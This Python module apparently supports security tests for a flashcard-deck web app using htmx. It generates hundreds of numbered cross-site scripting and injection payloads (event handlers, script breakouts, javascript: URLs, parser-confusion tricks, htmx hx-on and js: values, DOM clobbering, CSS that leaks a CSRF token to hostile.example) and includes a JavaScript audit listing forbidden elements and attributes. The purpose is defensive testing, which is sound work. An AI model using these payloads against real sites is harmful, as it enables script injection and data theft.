"""Texts that run, load or leave where a page takes them for markup, and what would notice it.

Made by rule: every trick with every element, address or sign that it works with. Each text calls `ran(its number)` or
asks for an address of its own at AWAY; so whatever got through says which text it was.
"""

import re
from collections.abc import Iterable, Iterator
from itertools import product

AWAY = "hostile.example"
_RUN, _LEAVE = "@J", "@U"
IMG = "<img src=x onerror=@J>"

# Opening of a tag, its attributes, and what happens to it by itself or at a touch.
_HAPPENING = [
    *(("img", "src=x", "onerror"), ("img", "srcset=x", "onerror"), ("image", "src=x", "onerror")),
    *(("svg", "", "onload"), ("body", "", "onload"), ("body", "", "onpageshow"), ("frameset", "", "onload")),
    *((name, "autofocus", "onfocus") for name in ("input", "select", "textarea", "button")),
    *((name, "tabindex=0 autofocus", "onfocus") for name in ("p", "math", "svg", "a", "made-up")),
    *(("details", "open", "ontoggle"), ("div", "popover", "onbeforetoggle"), ("dialog", "open", "oncancel")),
    *((name, "src=x", "onerror") for name in ("video", "audio", "embed", "script")),
    ("input", "type=image src=x", "onerror"),
    *(("iframe", "", "onload"), ("iframe", "srcdoc=x", "onload"), ("object", "data=x", "onerror")),
    *(("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"), ("marquee", "", "onstart")),
    *(("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><set", "attributeName=x", "onbegin")),
    *(("svg><image", "href=x", "onerror"), ("video><source", "src=x", "onerror")),
    *(("picture><source srcset=x><img", "src=x", "onerror"), ("form", "", "onsubmit")),
    *(("table", "", "onmouseover"), ("div", "contenteditable", "oninput"), ("slot", "", "onslotchange")),
    ("p", "style=animation-name:x", "onanimationstart"),
]  # fmt: skip
_TAGS = [
    "<{tag} {rest} {event}=@J>",
    '<{tag}/{loud}="@J" {rest}>',
    "<{tag}\n{rest}\t{event}\n=\n'@J' x>",
    "<{tag} {rest} {event}=&#x72;an(@N)>",
]  # fmt: skip
_SCRIPTS = [
    *("<script>@J</script>", "<SCRIPT>@J</SCRIPT>", "<script\n>@J</script\t>", "<script x='>'>@J</script>"),
    *("<script src=@U></script>", "<script/src=@U></script>", "<script src=data:text/javascript,@J></script>"),
    *("<script type=module>@J</script>", "<script type=module>import '@U'</script>", "<script>@J"),
    *("<scr<script>ipt>@J</script>", "<script>/*</script>*/<script>@J</script>", "<svg><script>@J</script></svg>"),
    *("<svg><script href=@U /></svg>", "<math><script>@J</script></math>", "<script nonce=x>@J</script>"),
    *('<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@U"]}]}</script>', "<script>@J<!--"),
    *('<script type=importmap>{"imports":{"x":"@U"}}</script>', "<script defer async src=//@H></script>"),
    "<template shadowrootmode=open><script>@J</script></template>",
]  # fmt: skip
# What ends the place where a text stands, before an element that runs.
_ENDS = [
    *('">', "'>", "`>", ">", "-->", "--!>", "]]>", "*/", '\\">', '"}\'>', "%}", "}}"),
    *(f"</{name}>" for name in ("textarea", "title", "style", "script", "noscript", "template", "select", "svg")),
    *(f"</{name}>" for name in ("math", "iframe", "xmp", "code></pre", "button", "noembed", "table", "option")),
]  # fmt: skip
_ATTRIBUTES = [
    *('" onfocus="@J" autofocus x="', "' onfocus='@J' autofocus x='", " onfocus=@J autofocus", "\nonfocus=@J"),
    *('"onmouseover="@J', "'onmouseover='@J", '" style="background:url(@U)', '" srcset="@U', '" formaction="@U'),
    *('" hx-get="@U" hx-trigger="load', '" hx-on:click="@J', '"/onpointerenter="@J', "x` onerror=@J `"),
]  # fmt: skip
_SCHEMES = [
    *("javascript:@J", "JaVaScRiPt:@J", " javascript:@J", "java\tscript:@J", "\njavascript:@J", "javascript://%0a@J"),
    *("java&#9;script:@J", "javascript&colon;@J", "&#106;avascript:@J", "\x01javascript:@J", "vbscript:@J"),
    *("data:text/html,<script>@J</script>", "data:text/html;base64,PHNjcmlwdD4=@N", "data:image/svg+xml,<svg>@J"),
    *("//@H", "\\\\@H", "/\\@H", "blob:@U", "view-source:@U", "ftp://@H"),
]  # fmt: skip
_CARRIERS = [
    *("[a]({})", "![a]({})", "[a](<{}>)", "[a]: {}\n\n[a]", "<{}>"),
    *('<a href="{}">a</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>a</button></form>'),
    *('<svg><a xlink:href="{}"><text>a</text></a></svg>', '<object data="{}"></object>', '<embed src="{}">'),
    '<math href="{}">a</math>',
]  # fmt: skip
_LOADS = [
    *(f"<link rel={rel} href=@U>" for rel in ("stylesheet", "icon", "manifest", "prefetch", "modulepreload")),
    *(f"<link rel={rel} href=@U>" for rel in ("dns-prefetch", "preconnect", "prerender", "preload as=image")),
    *("<img src=@U>", "<img srcset='@U 1x'>", "<picture><source srcset=@U><img></picture>", "<img src=//@H>"),
    *("<video poster=@U>", "<audio src=@U autoplay>", "<video><track default src=@U></video>", "<embed src=@U>"),
    *("<iframe src=@U>", "<iframe srcdoc='<img src=@U>'>", "<object data=@U>", "<input type=image src=@U>"),
    *("<body background=@U>", "<table background=@U>", "<svg><image href=@U /></svg>", "<portal src=@U>"),
    *("<svg><use href=@U#x /></svg>", "<svg><filter><feImage href=@U /></filter></svg>", "<fencedframe src=@U>"),
    *("<style>@import '@U';</style>", "<style>*{background:url(@U)}</style>", "<svg><style>@import url(@U)</style>"),
    *("<style>@font-face{font-family:x;src:url(@U)}*{font-family:x}</style>", "<html manifest=@U>"),
    *("<style>input[name=csrfmiddlewaretoken][value^=a]{background:url(@U)}</style>", "<applet archive=@U>"),
    *(f"<p style=\"{name}:url('@U')\">" for name in ("background", "list-style-image", "cursor", "content")),
    *("<p style=\"background:image-set('@U' 1x)\">", "<p style='border-image:url(@U)'>", "<a href=@U ping=@U>a</a>"),
    *("<meta http-equiv=refresh content='0;url=@U'>", "<meta http-equiv=refresh content='0;javascript:@J'>"),
    *("<base href=@U>", "<base target=_top href=//@H>", "<form action=@U><button autofocus>a</button></form>"),
    *("<button formaction=@U>a</button>", "<input type=submit formaction=@U>", "<isindex action=@U type=image>"),
    *("<form id=f></form><button form=f formaction=@U>a</button>", "<map><area href=javascript:@J></map>"),
    *("<template shadowrootmode=open><img src=@U></template>", "<bgsound src=@U>", "<frameset><frame src=@U>"),
]  # fmt: skip
# Where the parser changes its mind about what it reads, and where cleaners have followed another parser.
_MINDS = [
    *("math><mtext", "math><annotation-xml encoding=text/html", "svg><desc", "svg><title", "svg><foreignObject"),
    *("table><caption", "select><option", "form><math><mtext></form><form"),
]  # fmt: skip
_RAW = ["style", "textarea", "xmp", "title"]
_COMMENTS = [
    *("<!--><@I>-->", "<!---><@I>-->", "<!-- --!><@I>", "<![CDATA[><@I>]]>", "<svg><![CDATA[</svg>]]><@I>"),
    *("<!x><@I>", "<?xml x?><@I>", "</ x><@I>", "<!DOCTYPE x [<!ENTITY x '<@I>'>]><@I>", "<!-><@I>", "<@I <@I>"),
]  # fmt: skip
# In the markup of decks: gaps, links, pictures, code, tables, and what stands beside them.
_MARKUP = [
    *("{{c1::%s}}", "{{c1::a::%s}}", "{{c1::a}}%s{{c2::b}}", "[%s](https://example.org/)", "![%s](media/plan.svg)"),
    *('[a](https://example.org/ "%s")', "**%s**", "*a%s*", "`%s`", "``%s", "```html\n%s\n```", "```%s\na\n```"),
    *("~~~\n%s", "> %s", "- %s", "1. %s", "# %s", "| a | b |\n|---|---|\n| %s | c |", "[a]: https://x.org '%s'\n\n[a]"),
    *("    %s", "a  \n%s", "<https://example.org/%s>", "\\%s", "[a][%s]", "~~%s~~", "a\n===%s", "***\n%s\n***"),
]  # fmt: skip
_SIGNS = "\x00\x01\x0b\x0c\x1b\x7f\x85\xa0\u00ad\u061c\u200b\u200d\u200f\u2028\u202e\u2066\u3000\ufe0f\ufeff\ufffd中é👩"
_CODE = [
    *('";@J;//', "';@J;//", "`;@J;//", "${@J}", "`+@J+`", '"-@J-"', "'-@J-'", '\\";@J;//', "\\';@J;//", "*/@J/*"),
    *("\u2028@J//", "\n@J//", "</script><script>@J</script>", "<!--<script></script><script>@J</script>-->"),
    *('{"a":"</script><script>@J</script>"}', "</ScRiPt\n><@I>", "\\u003c/script><script>@J</script>"),
]  # fmt: skip
# What htmx and our own modules read off the page, and names that take the place of something else's.
_OURS = [
    *('<p hx-get="@U" hx-trigger="load">', '<p data-hx-get="@U" data-hx-trigger="load">', '<p hx-on:click="@J">'),
    *('<p hx-on::load="@J">', '<p hx-trigger="load[@J]" hx-get="/">', '<form hx-post="@U" hx-trigger="load">'),
    *("<p hx-vals='js:{a:@J}' hx-get='/' hx-trigger=load>", "<p hx-headers='js:{a:@J}'>", "<p hx-ext='@U'>"),
    *('<a href="@U" hx-boost="true">a</a>', '<main id="main" hx-swap-oob="true" hostile>a</main>'),
    *('<meta name="htmx-config" content=\'{"allowEval":true}\' hostile>', "<button data-run=undo hostile>a</button>"),
    *('<div data-study data-learner="0" hostile>', '<body data-learner="0" hx-headers="{}" hostile>'),
    "<p data-words hostile>",
    *('<script id="study-texts" type="application/json" hostile>{}</script>', "<form data-zone-offer=x hostile>"),
    *(f"<{tag} hostile>a</{tag}>" for tag in ("p data-prompt", "p data-status", "form data-drop", "form data-pick")),
    *(f"<{tag} hostile>" for tag in ("form id=document", "input name=attributes", "a id=ran", "img name=cookie")),
    *("<form name=htmx hostile><input name=process>", "<form><input name=action hostile><input name=submit>"),
]  # fmt: skip
_DISGUISED = [
    *("&lt;img src=x onerror=@J&gt;", "&#60;img src=x onerror=@J&#62;", "&#x3c;svg onload=@J&#x3e;"),
    "&LT;svg onload=@J>",
    *("%3Cimg src=x onerror=@J%3E", "＜img src=x onerror=@J＞", "﹤svg onload=@J﹥", "<\u017fcript>@J</\u017fcript>"),
    *("\\x3cimg src=x onerror=@J\\x3e", "\\u003cimg src=x onerror=@J\\u003e", "&amp;lt;img src=x onerror=@J&amp;gt;"),
]  # fmt: skip


def _shapes() -> Iterator[str]:
    for (tag, rest, event), shape in product(_HAPPENING, _TAGS):
        yield shape.format(tag=tag, rest=rest, event=event, loud=event.upper())
    yield from _SCRIPTS
    yield from (end + core for end, core in product(_ENDS, (IMG, "<svg onload=@J>")))
    yield from _ATTRIBUTES
    yield from (carrier.format(scheme) for scheme, carrier in product(_SCHEMES, _CARRIERS))
    yield from _LOADS
    for mind, raw in product(_MINDS, _RAW):
        yield f"<{mind}><{raw}><!--</{raw}>{IMG}-->"
        yield f'<{mind}><{raw} id="</{raw}>{IMG}">'
    yield from (shape.replace("<@I>", IMG).replace("<@I", IMG[:-1]) for shape in _COMMENTS)
    yield from (shape % core for shape, core in product(_MARKUP, (IMG, '" onfocus="@J" autofocus a="' + IMG)))
    yield from (
        shape.format(sign) for sign in _SIGNS for shape in ("{}<img src=x onerror=@J>", "<p{} onfocus=@J>")
    )
    yield from (shape.replace("<@I>", IMG) for shape in (*_CODE, *_OURS, *_DISGUISED))


def corpus() -> list[str]:
    return [_numbered(shape, number) for number, shape in enumerate(dict.fromkeys(_shapes()))]


def chosen() -> list[str]:
    """Four of eleven: no trick is made of eleven parts, so none loses a part that way."""
    return [text for number, text in enumerate(corpus()) if number % 11 < 4]


def _numbered(shape: str, number: int) -> str:
    told = {"J": f"ran({number})", "U": f"https://{AWAY}/{number}", "H": f"{AWAY}/{number}", "N": str(number)}
    return re.sub("@([JUHN])", lambda found: told[found[1]], shape)


def in_decks(text: str) -> bool:
    """Whether the format takes it: it refuses controls, and pictures from elsewhere. Import pages show those."""
    signs = set(map(ord, text)) - set(map(ord, "\n\t"))
    controls = any(sign < 32 or 127 <= sign < 160 or sign in (0x2028, 0xFEFF) for sign in signs)
    return text.strip() != "" and not controls and not text.startswith("![a](")


def packed(texts: Iterable[str], most: int, between: str = " ") -> Iterator[str]:
    """As many texts at once as a field of so many characters takes."""
    held = ""
    for text in texts:
        if held and len(held) + len(between) + len(text) > most:
            yield held
            held = ""
        held = f"{held}{between}{text}" if held else text[:most]
    yield held


# What no page of ours has in it, whoever wrote it: all that runs, loads or leads away.
AUDIT = """(root, origin) => {
    const found = [];
    const URLS = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'ping',
        'manifest', 'archive', 'hx-get', 'hx-post', 'hx-put', 'hx-patch', 'hx-delete', 'data-hx-get', 'srcset']);
    const NEVER = 'iframe, frame, frameset, object, embed, applet, base, portal, fencedframe, bgsound, animate, set, '
        + 'foreignObject, feImage, style, marquee, isindex, [http-equiv], [shadowrootmode], [hostile], [srcdoc]';
    const SCRIPTS = ['application/json'];
    const away = (element, name, value) => {
        if (value.trim() === '') return false;
        let address;
        try { address = new URL(value, origin); } catch { return true; }
        const link = element.localName === 'a' && name === 'href';
        if (link && ['http:', 'https:', 'mailto:'].includes(address.protocol)) return false;
        if (element.localName === 'img' && address.protocol === 'data:') return false;
        return address.origin !== origin;
    };
    const look = (element) => {
        const say = (what) => found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
        if (element.matches(NEVER)) say('element');
        if (element.localName === 'script' && !SCRIPTS.includes(element.type)
            && !(element.getAttribute('src') ?? '').startsWith('/static/')) say('script');
        if (element.shadowRoot) walk(element.shadowRoot);
        for (const {name, value} of element.attributes) {
            if (/^on|^(data-)?hx-on/i.test(name)) say('handler');
            if (URLS.has(name) && away(element, name, value)) say('address');
            if (name === 'style' && /url|image-set|import|expression/i.test(value)) say('style');
            if (/^(data-)?hx-/.test(name) && !URLS.has(name) && /ran\\(|hostile/.test(value)) say('htmx');
        }
    };
    const walk = (part) => {
        for (const element of part.querySelectorAll('*')) {
            look(element);
            if (element instanceof HTMLTemplateElement) walk(element.content);
        }
    };
    walk(root);
    return found;
}"""
